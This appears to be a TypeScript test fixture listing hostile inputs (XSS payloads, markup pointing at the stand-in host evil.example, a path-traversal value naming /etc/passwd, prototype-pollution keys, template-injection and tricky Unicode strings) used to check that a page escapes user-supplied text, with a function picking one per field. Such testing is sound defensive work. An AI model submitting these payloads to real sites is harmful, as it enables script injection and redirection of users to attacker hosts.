/** What somebody could write into a name, a reason or an answer to get more than text onto a page; `hit()` is defined by nobody but the test. */
export const HOSTILE = [
  '<script>hit()</script>', '"><img src=x onerror=hit()>', '\' onmouseover=\'hit()', '<svg onload=hit()>', '</title><script>hit()</script>', '</style><script>hit()</script>',
  '</script><script>hit()</script>', '<iframe src="javascript:hit()"></iframe>', 'javascript:hit()', 'data:text/html,<script>hit()</script>', '<a href="javascript:hit()">x</a>',
  '<math><mtext></p><img src onerror=hit()>', '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<link rel=stylesheet href=http://evil.example/x.css>', '<form action=http://evil.example/><input name=x autofocus onfocus=hit()>',
  '}*{display:none}</style>', 'background:url(http://evil.example/x)', '${hit()}', '{{hit()}}', '`${hit()}`', ']]><script>hit()</script>', '--><script>hit()</script><!--', '&lt;script&gt;hit()&lt;/script&gt;', '&#x3c;script>',
  '\u202egnp.exe\u202c', '\u2066\u2067ضار\u2069', 'مرحبا بالعالم', 'שלום', '👩‍👩‍👧‍👦🏳️‍🌈', 'e' + '\u0301'.repeat(200), '\u200b\u200d\ufeff', '\u2028\u2029', '\u0007\u001b[31m', '__proto__', 'constructor', '%00%0a',
  'x'.repeat(10_000), 'W'.repeat(300), '../../../etc/passwd', '..', 'con', '//evil.example/x', '\\\\evil.example\\x',
]

/** One of them for this place; the same every time. */
export function hostileFor(place: string): string {
  let sum = 2166136261
  for (const char of place) sum = Math.imul(sum ^ char.charCodeAt(0), 16777619)
  return HOSTILE[(sum >>> 0) % HOSTILE.length]!
}
